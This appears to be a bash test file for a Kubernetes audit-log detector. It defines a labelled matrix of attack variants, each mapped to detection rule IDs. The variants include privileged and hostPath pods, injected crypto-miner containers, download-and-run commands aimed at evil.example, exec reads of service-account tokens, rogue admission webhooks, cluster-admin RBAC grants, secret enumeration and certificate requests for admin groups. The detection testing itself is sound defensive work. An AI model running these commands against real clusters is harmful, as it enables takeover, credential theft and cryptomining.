# The labelled attack matrix: technique x variant. Each variant is declared as
#   variant TECHNIQUE ID RULES MIN_SEVERITY "what it does" <<'EOF' ... EOF
# and is detected when an alert of one of RULES (comma-separated), at
# MIN_SEVERITY or above, names its namespace (m-ID), an object whose name
# holds m-ID, or one of the requests it made. The body runs in bash with
# lib.sh's helpers, NS=m-ID (created) and ID. The bodies drive the real API
# server the way an attacker would: kubectl, curl with a service account's
# token, curl with a client certificate (raw PUT, every patch type).

PRIV=',"securityContext":{"privileged":true}'
plain_spec() { pod_spec_json "$(container_json app nginx:1.25)"; }
priv_spec() { pod_spec_json "$(container_json app nginx:1.25 "$PRIV")"; }

# ------------------------------------------------------------ privileged workloads, every pod-bearing kind and way
variant privileged-workload pod-kubectl KG-AUD-017 high "privileged pod, kubectl create" <<'EOF'
kcreate "$(pod_json p "$(priv_spec)")"
EOF
variant privileged-workload pod-hostpath KG-AUD-017 high "pod mounting the node's / (hostPath)" <<'EOF'
kcreate "$(pod_json p "$(pod_spec_json "$(container_json app nginx:1.25 ',"volumeMounts":[{"name":"h","mountPath":"/host"}]')" ',"volumes":[{"name":"h","hostPath":{"path":"/"}}]')")"
EOF
variant privileged-workload pod-hostns KG-AUD-017 high "pod in the node's PID and network namespaces" <<'EOF'
kcreate "$(pod_json p "$(pod_spec_json "$(container_json)" ',"hostPID":true,"hostNetwork":true')")"
EOF
variant privileged-workload pod-explicit-root KG-AUD-017 high "pod asking for runAsUser: 0 and SYS_ADMIN" <<'EOF'
kcreate "$(pod_json p "$(pod_spec_json "$(container_json app nginx:1.25 ',"securityContext":{"runAsUser":0,"capabilities":{"add":["SYS_ADMIN"]}}')")")"
EOF
for kind in Deployment ReplicaSet StatefulSet DaemonSet Job CronJob ReplicationController; do
  variant privileged-workload "kind-${kind,,}" KG-AUD-017 high "privileged $kind, kubectl create" <<EOF
kcreate "\$(workload_json $kind w "\$(priv_spec)")"
EOF
done
variant privileged-workload pod-sa-curl KG-AUD-017,KG-AUD-008 high "privileged pod created by a service account with curl" <<'EOF'
sa builder create,get pods
sa_curl builder POST "/api/v1/namespaces/$NS/pods" application/json "$(pod_json p "$(priv_spec)")"
EOF
variant privileged-workload deploy-sa-curl KG-AUD-017,KG-AUD-008 high "privileged Deployment by a service account with curl" <<'EOF'
sa builder create,get deployments.apps
sa_curl builder POST "/apis/apps/v1/namespaces/$NS/deployments" application/json "$(workload_json Deployment w "$(priv_spec)")"
EOF
variant privileged-workload patch-strategic KG-AUD-017 high "strategic-merge patch sets privileged on a Deployment" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" patch deployment w -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","securityContext":{"privileged":true}}]}}}}'
EOF
variant privileged-workload patch-merge KG-AUD-017 high "merge patch sets hostPID on a Deployment" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" patch deployment w --type=merge -p '{"spec":{"template":{"spec":{"hostPID":true}}}}'
EOF
variant privileged-workload patch-json KG-AUD-017 high "JSON patch adds privileged to a DaemonSet" <<'EOF'
kcreate "$(workload_json DaemonSet w "$(plain_spec)")"
k -n "$NS" patch daemonset w --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/0/securityContext","value":{"privileged":true}}]'
EOF
variant privileged-workload patch-apply KG-AUD-017 high "server-side apply of a privileged StatefulSet" <<'EOF'
kcreate "$(workload_json StatefulSet w "$(plain_spec)")"
k apply --server-side --force-conflicts -f - <<<"$(workload_json StatefulSet w "$(priv_spec)")"
EOF
variant privileged-workload put-raw KG-AUD-017 high "raw PUT of a privileged Deployment (curl, client certificate)" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
rv=$(k -n "$NS" get deployment w -o jsonpath='{.metadata.resourceVersion}')
body=$(workload_json Deployment w "$(priv_spec)")
admin_curl PUT "/apis/apps/v1/namespaces/$NS/deployments/w" application/json "${body/\"metadata\":\{/\"metadata\":\{\"resourceVersion\":\"$rv\",}"
EOF
variant privileged-workload patch-sa-curl KG-AUD-017,KG-AUD-008 high "service account's curl merge-patch adds hostNetwork" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
sa builder get,patch deployments.apps
sa_curl builder PATCH "/apis/apps/v1/namespaces/$NS/deployments/w" application/merge-patch+json '{"spec":{"template":{"spec":{"hostNetwork":true}}}}'
EOF
variant ephemeral-container debug-kubectl KG-AUD-006 high "kubectl debug adds an ephemeral container" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
k -n "$NS" debug p --image=busybox:1.36 -c dbg --profile=general -- sh
EOF
variant ephemeral-container curl-patch KG-AUD-006 high "ephemeral container by a strategic patch of pods/ephemeralcontainers" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
admin_curl PATCH "/api/v1/namespaces/$NS/pods/p/ephemeralcontainers" application/strategic-merge-patch+json '{"spec":{"ephemeralContainers":[{"name":"dbg","image":"busybox:1.36","command":["sh"],"stdin":true,"tty":true}]}}'
EOF

# ------------------------------------------------------------ containers added or swapped in workloads
variant container-injection patch-strategic KG-AUD-001 high "strategic-merge patch adds a miner container" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" patch deployment w -p '{"spec":{"template":{"spec":{"containers":[{"name":"miner","image":"xmrig/xmrig:6.21"}]}}}}'
EOF
variant container-injection patch-json KG-AUD-001 high "JSON patch appends a container" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" patch deployment w --type=json -p '[{"op":"add","path":"/spec/template/spec/containers/-","value":{"name":"helper","image":"evil.example/helper:1"}}]'
EOF
variant container-injection patch-merge KG-AUD-001 high "merge patch replaces the container list" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" patch deployment w --type=merge -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","image":"nginx:1.25"},{"name":"helper","image":"evil.example/helper:1"}]}}}}'
EOF
variant container-injection apply KG-AUD-001 high "server-side apply adds a container" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k apply --server-side --force-conflicts -f - <<<"$(workload_json Deployment w "$(pod_spec_json "$(container_json app nginx:1.25),$(container_json helper evil.example/helper:1)")")"
EOF
variant container-injection put-raw KG-AUD-001 high "raw PUT adds a container to a DaemonSet" <<'EOF'
kcreate "$(workload_json DaemonSet w "$(plain_spec)")"
rv=$(k -n "$NS" get daemonset w -o jsonpath='{.metadata.resourceVersion}')
body=$(workload_json DaemonSet w "$(pod_spec_json "$(container_json app nginx:1.25),$(container_json helper evil.example/helper:1)")")
admin_curl PUT "/apis/apps/v1/namespaces/$NS/daemonsets/w" application/json "${body/\"metadata\":\{/\"metadata\":\{\"resourceVersion\":\"$rv\",}"
EOF
variant container-injection set-image KG-AUD-002 high "kubectl set image to another repository" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
k -n "$NS" set image deployment/w app=evil.example/nginx:1.25
EOF
variant container-injection cronjob-image KG-AUD-002 high "JSON patch swaps a CronJob's image" <<'EOF'
kcreate "$(workload_json CronJob w "$(plain_spec)")"
k -n "$NS" patch cronjob w --type=json -p '[{"op":"replace","path":"/spec/jobTemplate/spec/template/spec/containers/0/image","value":"evil.example/x:1"}]'
EOF
variant container-injection command KG-AUD-003 high "the command of a StatefulSet's container replaced" <<'EOF'
kcreate "$(workload_json StatefulSet w "$(plain_spec)")"
k -n "$NS" patch statefulset w -p '{"spec":{"template":{"spec":{"containers":[{"name":"app","command":["sh","-c","curl -s http://evil.example/x | sh"]}]}}}}'
EOF
variant container-injection sa-curl KG-AUD-001,KG-AUD-008 high "service account's curl patch adds a container" <<'EOF'
kcreate "$(workload_json Deployment w "$(plain_spec)")"
sa builder get,patch deployments.apps
sa_curl builder PATCH "/apis/apps/v1/namespaces/$NS/deployments/w" application/strategic-merge-patch+json '{"spec":{"template":{"spec":{"containers":[{"name":"sa-miner","image":"xmrig/xmrig:6.21"}]}}}}'
EOF

variant container-injection rogue-webhook KG-AUD-005 high "a rogue mutating webhook adds a container to the pods a Deployment's ReplicaSet creates" <<'EOF'
serving_pki "$WORK/injector-$ID"
python3 "$HERE/injector.py" "$WORK/injector-$ID/server.crt" "$WORK/injector-$ID/server.key" "$WORK/injector-$ID/port" \
  telemetry xmrig/xmrig:6.21 &
injector=$!
trap 'kill $injector 2>/dev/null' EXIT
wait_for 10 test -s "$WORK/injector-$ID/port"
kcreate "$(printf '{"apiVersion":"admissionregistration.k8s.io/v1","kind":"MutatingWebhookConfiguration","metadata":{"name":"m-%s"},"webhooks":[{"name":"inject.m.example.com","clientConfig":{"url":"https://127.0.0.1:%s/inject","caBundle":"%s"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"%s"}},"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","timeoutSeconds":5}]}' \
  "$ID" "$(cat "$WORK/injector-$ID/port")" "$(base64 -w0 "$WORK/injector-$ID/ca.crt")" "$NS")"
sleep 1  # the API server picks the configuration up
kcreate "$(workload_json Deployment w "$(plain_spec)")"
injected() { kubectl -n "$NS" get pods -o jsonpath='{..containers[*].name}' | grep -q telemetry; }
# Pods made before the API server called the webhook are made again by the ReplicaSet.
for _ in 1 2 3; do
  wait_for 10 injected && break
  k -n "$NS" delete pods --all --wait=false
done
injected
k delete mutatingwebhookconfiguration "m-$ID"
EOF

# ------------------------------------------------------------ exec and attach (no kubelet: the API server logs the authorised attempt)
variant exec shell KG-AUD-007 high "kubectl exec sh -i" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
k -n "$NS" exec p -- sh -i </dev/null || true
EOF
variant exec token-read KG-AUD-007 critical "exec reading the service-account token" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
k -n "$NS" exec p -- cat /var/run/secrets/kubernetes.io/serviceaccount/token || true
EOF
variant exec kubectl-cp KG-AUD-007 high "kubectl cp copies files out of the pod (tar)" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
k cp "$NS/p:/etc/app" "$WORK/cp-out" || true
EOF
variant exec download-run KG-AUD-007 critical "exec that downloads a script and runs it" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
k -n "$NS" exec p -- sh -c 'curl -s http://evil.example/i.sh | sh' || true
EOF
variant exec attach KG-AUD-007 medium "attach to a pod's container (curl; kubectl attach waits for a running pod)" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
admin_curl POST "/api/v1/namespaces/$NS/pods/p/attach?container=app&stdin=true&stdout=true&tty=true" || true
EOF
variant exec sa-curl KG-AUD-007 critical "exec by a service account with curl (token read)" <<'EOF'
kcreate "$(pod_json p "$(plain_spec)")"
sa execer create,get pods/exec,pods
# No kubelet and no upgrade: the API server answers 400 after authorising (and logging) the request.
sa_curl execer POST "/api/v1/namespaces/$NS/pods/p/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&stdout=true" || true
EOF

# ------------------------------------------------------------ exec, then the pod's service account writes
variant exec-then-write pod-sa-patch KG-AUD-018 critical "exec into a pod, then its service account's token patches a Deployment" <<'EOF'
sa builder get,patch deployments.apps
kcreate "$(workload_json Deployment target "$(plain_spec)")"
kcreate "$(pod_json victim "$(pod_spec_json "$(container_json)" ',"serviceAccountName":"builder"')")"
k -n "$NS" exec victim -- sh -c 'cat /var/run/secrets/kubernetes.io/serviceaccount/token' || true
sleep 1
sa_curl builder PATCH "/apis/apps/v1/namespaces/$NS/deployments/target" application/strategic-merge-patch+json '{"spec":{"template":{"spec":{"containers":[{"name":"x","image":"xmrig/xmrig:6.21"}]}}}}'
EOF
variant exec-then-write deploy-pod-sa KG-AUD-018 critical "exec into a Deployment's pod, then its service account creates a pod" <<'EOF'
sa builder create,get pods
kcreate "$(workload_json Deployment w "$(pod_spec_json "$(container_json)" ',"serviceAccountName":"builder"')")"
wait_for 30 bash -c "kubectl -n $NS get pods -l app=w -o name | grep -q pod/"
pod=$(k -n "$NS" get pods -l app=w -o jsonpath='{.items[0].metadata.name}')
k -n "$NS" exec "$pod" -- sh || true
sleep 1
sa_curl builder POST "/api/v1/namespaces/$NS/pods" application/json "$(pod_json dropped "$(plain_spec)")"
EOF

# ------------------------------------------------------------ admission webhook configurations
WH_RULES='"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"sideEffects":"None","timeoutSeconds":1,"admissionReviewVersions":["v1"]'
wh_json() { # KIND NAME FAILURE
  printf '{"apiVersion":"admissionregistration.k8s.io/v1","kind":"%s","metadata":{"name":"%s"},"webhooks":[{"name":"hook.evil.example.com","clientConfig":{"url":"https://evil.example.com/hook"},%s,"namespaceSelector":{"matchLabels":{"kubernetes.io/metadata.name":"%s"}},"failurePolicy":"%s"}]}' \
    "$1" "$2" "$WH_RULES" "$NS" "$3"
}
variant webhook-config mutating-kubectl KG-AUD-009 critical "mutating webhook on pods to an external URL, failing open" <<'EOF'
kcreate "$(wh_json MutatingWebhookConfiguration "m-$ID" Ignore)"
EOF
variant webhook-config mutating-curl KG-AUD-009 high "mutating webhook created with curl" <<'EOF'
admin_curl POST /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations application/json "$(wh_json MutatingWebhookConfiguration "m-$ID" Fail)"
EOF
variant webhook-config validating-delete KG-AUD-009 high "a validating webhook deleted" <<'EOF'
kcreate "$(wh_json ValidatingWebhookConfiguration "m-$ID" Fail)" >/dev/null
k delete validatingwebhookconfiguration "m-$ID"
EOF
variant webhook-config mutating-patch KG-AUD-009 high "a webhook's target changed by JSON patch" <<'EOF'
kcreate "$(wh_json MutatingWebhookConfiguration "m-$ID" Fail)"
k patch mutatingwebhookconfiguration "m-$ID" --type=json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://evil2.example.com/x"}]'
EOF

# ------------------------------------------------------------ RBAC grants by name and by content
USER_SUBJ='"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"mallory"}]'
crb_json() { printf '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"%s"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"%s"},%s}' "$1" "$2" "${3:-$USER_SUBJ}"; }
cr_json() { printf '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"%s"},"rules":[%s]}' "$1" "$2"; }
variant rbac-by-name crb-cluster-admin KG-AUD-010 critical "ClusterRoleBinding to cluster-admin (kubectl)" <<'EOF'
k create clusterrolebinding "m-$ID" --clusterrole=cluster-admin --user=mallory
EOF
variant rbac-by-name rb-cluster-admin KG-AUD-010 critical "RoleBinding to cluster-admin in a namespace" <<'EOF'
k -n "$NS" create rolebinding x --clusterrole=cluster-admin --serviceaccount="$NS:default"
EOF
variant rbac-by-name crb-curl KG-AUD-010 critical "ClusterRoleBinding to cluster-admin posted with curl" <<'EOF'
admin_curl POST /apis/rbac.authorization.k8s.io/v1/clusterrolebindings application/json "$(crb_json "m-$ID" cluster-admin)"
EOF
variant rbac-by-name crb-admin KG-AUD-021 critical "ClusterRoleBinding to the built-in admin role" <<'EOF'
k create clusterrolebinding "m-$ID" --clusterrole=admin --user=mallory
EOF
variant rbac-by-name rb-edit KG-AUD-021 high "RoleBinding to the built-in edit role" <<'EOF'
k -n "$NS" create rolebinding x --clusterrole=edit --user=mallory
EOF
variant rbac-by-content everything-role KG-AUD-010,KG-AUD-011 critical "a system:-named role granting everything, bound to a user" <<'EOF'
kcreate "$(cr_json "system:m-$ID" '{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}')"
kcreate "$(crb_json "system:m-$ID" "system:m-$ID")"
EOF
for grant in 'nodes-proxy|""|nodes/proxy|get' 'pods-exec|""|pods/exec|create' 'pods-attach|""|pods/attach|create' \
  'sa-token|""|serviceaccounts/token|create' 'secrets|""|secrets|list' \
  'webhooks|"admissionregistration.k8s.io"|mutatingwebhookconfigurations|patch' \
  'csr-approve|"certificates.k8s.io"|certificatesigningrequests/approval|update' \
  'signers|"certificates.k8s.io"|signers|approve'; do
  IFS='|' read -r gid group res verb <<<"$grant"
  variant rbac-by-content "grant-$gid" KG-AUD-020,KG-AUD-021 high "ClusterRole granting $res, bound cluster-wide" <<EOF
kcreate "\$(cr_json "m-\$ID" '{"apiGroups":[$group],"resources":["$res"],"verbs":["$verb"]}')"
kcreate "\$(crb_json "m-\$ID" "m-\$ID")"
EOF
done
variant rbac-by-content escalate-bind KG-AUD-012 high "a Role granting escalate and bind" <<'EOF'
k -n "$NS" create role x --verb=escalate,bind --resource=roles.rbac.authorization.k8s.io
EOF
variant rbac-by-content impersonate KG-AUD-012 high "a ClusterRole granting impersonate" <<'EOF'
k create clusterrole "m-$ID" --verb=impersonate --resource=users,groups
EOF
variant rbac-by-content everyone KG-AUD-021 high "a binding handing a role to system:authenticated" <<'EOF'
kcreate "$(crb_json "m-$ID" view '"subjects":[{"kind":"Group","apiGroup":"rbac.authorization.k8s.io","name":"system:authenticated"}]')"
EOF
variant rbac-by-content rb-sa-curl KG-AUD-021 high "a service account binds edit to itself with curl (bind granted)" <<'EOF'
sa binder create rolebindings.rbac.authorization.k8s.io
k -n "$NS" create role bindany --verb=bind --resource=clusterroles.rbac.authorization.k8s.io
k -n "$NS" create rolebinding binder-bind --role=bindany --serviceaccount="$NS:binder"
sa_curl binder POST "/apis/rbac.authorization.k8s.io/v1/namespaces/$NS/rolebindings" application/json "$(printf '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"RoleBinding","metadata":{"name":"self"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"edit"},"subjects":[{"kind":"ServiceAccount","name":"binder","namespace":"%s"}]}' "$NS")"
EOF
variant rbac-change builtin-patch KG-AUD-022 high "a built-in ClusterRole changed by hand" <<'EOF'
k label clusterrole system:heapster "m-$ID=1" --overwrite
k label clusterrole system:heapster "m-$ID-"
EOF
variant rbac-change builtin-delete KG-AUD-022 high "a built-in ClusterRole deleted (then restored)" <<'EOF'
k get clusterrole system:persistent-volume-provisioner -o json >"$WORK/saved-role.json"
k delete clusterrole system:persistent-volume-provisioner
python3 -c 'import json,sys; o=json.load(open(sys.argv[1])); m=o["metadata"]; [m.pop(x,None) for x in ("resourceVersion","uid","creationTimestamp","managedFields")]; print(json.dumps(o))' "$WORK/saved-role.json" | kubectl create -f -
EOF
variant rbac-change binding-delete KG-AUD-022 low "a RoleBinding deleted" <<'EOF'
k -n "$NS" create rolebinding x --clusterrole=view --user=mallory >/dev/null
k -n "$NS" delete rolebinding x
EOF

# ------------------------------------------------------------ tokens
variant token-request kubectl KG-AUD-014 medium "kubectl create token for an application account" <<'EOF'
k -n "$NS" create serviceaccount app
k -n "$NS" create token app >/dev/null
EOF
variant token-request kube-system KG-AUD-014 high "a token for a kube-system controller's account" <<'EOF'
k -n kube-system create token replicaset-controller --duration=10m >/dev/null
EOF
variant token-request sa-curl KG-AUD-014 medium "a service account mints a token for another with curl" <<'EOF'
k -n "$NS" create serviceaccount target
sa minter create serviceaccounts/token
sa_curl minter POST "/api/v1/namespaces/$NS/serviceaccounts/target/token" application/json '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":600}}'
EOF

# ------------------------------------------------------------ secrets enumeration
variant secret-enumeration user-all-namespaces KG-AUD-023 high "kubectl get secrets -A -o yaml" <<'EOF'
k get secrets -A -o yaml --as="mallory-$ID" --as-group=system:masters >/dev/null
EOF
variant secret-enumeration user-namespace-loop KG-AUD-023 high "a user lists secrets namespace after namespace" <<'EOF'
for n in default kube-system kube-public "$NS"; do k -n "$n" get secrets --as="looper-$ID" --as-group=system:masters >/dev/null; done
EOF
variant secret-enumeration sa-cluster-wide KG-AUD-023,KG-AUD-015 high "a service account lists every secret with curl" <<'EOF'
k -n "$NS" create serviceaccount dumper
k create clusterrole "m-$ID" --verb=list --resource=secrets
k create clusterrolebinding "m-$ID" --clusterrole="m-$ID" --serviceaccount="$NS:dumper"
sa_curl dumper GET /api/v1/secrets
EOF
variant secret-enumeration sa-namespace KG-AUD-015 high "a service account lists its namespace's secrets" <<'EOF'
sa reader list secrets
sa_curl reader GET "/api/v1/namespaces/$NS/secrets"
EOF

# ------------------------------------------------------------ client-certificate persistence
variant csr-persistence admins-request KG-AUD-024 high "a CSR for O=kubeadm:cluster-admins (kubeadm's administrators' group)" <<'EOF'
kcreate "$(csr_json "m-$ID" "/O=kubeadm:cluster-admins/CN=m-$ID" kubernetes.io/kube-apiserver-client)"
EOF
variant csr-persistence admins-approve KG-AUD-024 critical "a CSR for O=kubeadm:cluster-admins, approved (and signed by the controller manager)" <<'EOF'
kcreate "$(csr_json "m-$ID" "/O=kubeadm:cluster-admins/CN=m-$ID" kubernetes.io/kube-apiserver-client)"
k certificate approve "m-$ID"
EOF
variant csr-persistence masters-refused KG-AUD-024 high "a CSR for O=system:masters through the client signer (the API server refuses it)" <<'EOF'
if kcreate "$(csr_json "m-$ID" "/O=system:masters/CN=m-$ID" kubernetes.io/kube-apiserver-client)"; then
  echo "the API server accepted a CSR for system:masters" >&2
  exit 1
fi
EOF
variant csr-persistence controller-identity-curl KG-AUD-024 high "a CSR for the controller manager's identity, posted with curl" <<'EOF'
admin_curl POST /apis/certificates.k8s.io/v1/certificatesigningrequests application/json "$(csr_json "m-$ID" "/CN=system:kube-controller-manager" kubernetes.io/kube-apiserver-client)"
EOF
variant csr-persistence node-generic-signer KG-AUD-024 high "a node identity through the generic client signer" <<'EOF'
kcreate "$(csr_json "m-$ID" "/O=system:nodes/CN=system:node:m-$ID" kubernetes.io/kube-apiserver-client)"
EOF

# ------------------------------------------------------------ pods in every system namespace
for sys in kube-system kube-public kube-node-lease; do
  variant system-namespace "pod-$sys" KG-AUD-019 medium "a pod created in $sys" <<EOF
kcreate "\$(NS=$sys pod_json "m-\$ID" "\$(plain_spec)")"
k -n $sys delete pod "m-\$ID" --wait=false
EOF
done
variant system-namespace curl-kube-system KG-AUD-019 medium "a pod posted to kube-system with curl" <<'EOF'
admin_curl POST /api/v1/namespaces/kube-system/pods application/json "$(NS=kube-system pod_json "m-$ID" "$(plain_spec)")"
k -n kube-system delete pod "m-$ID" --wait=false
EOF

# ------------------------------------------------------------ impersonation and anonymous access
variant impersonation as-user KG-AUD-013 medium "kubectl --as another user" <<'EOF'
k -n "$NS" get pods --as="jane-$ID" --as-group=system:masters >/dev/null
EOF
variant anonymous binding-then-read KG-AUD-016,KG-AUD-021 high "system:anonymous bound to view, then reads pods" <<'EOF'
k -n "$NS" create rolebinding anon --clusterrole=view --user=system:anonymous
kcreate "$(pod_json p "$(plain_spec)")" >/dev/null
anon_curl GET "/api/v1/namespaces/$NS/pods"
EOF
